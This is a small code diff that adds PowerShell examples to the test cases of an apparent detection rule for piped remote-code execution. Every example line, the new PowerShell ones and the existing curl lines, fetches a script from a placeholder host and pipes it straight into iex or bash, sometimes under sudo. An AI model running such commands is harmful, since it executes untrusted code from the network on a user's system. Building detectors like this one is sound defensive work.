@@ -114,6 +114,8 @@ export const REMOTE_CODE_EXAMPLES: RuleExamples = {
   },
   'remote-code.piped': {
     fires: [
+      'irm https://x.example.org/i.ps1 | iex',
+      'iwr -useb https://x.example.org/i.ps1 | Invoke-Expression',
       'curl -s https://x.example.org/i | bash -euo pipefail',
       'curl -s https://x.example.org/i | bash -s -- --yes',
       'curl -s https://x.example.org/i | sudo -E bash -',
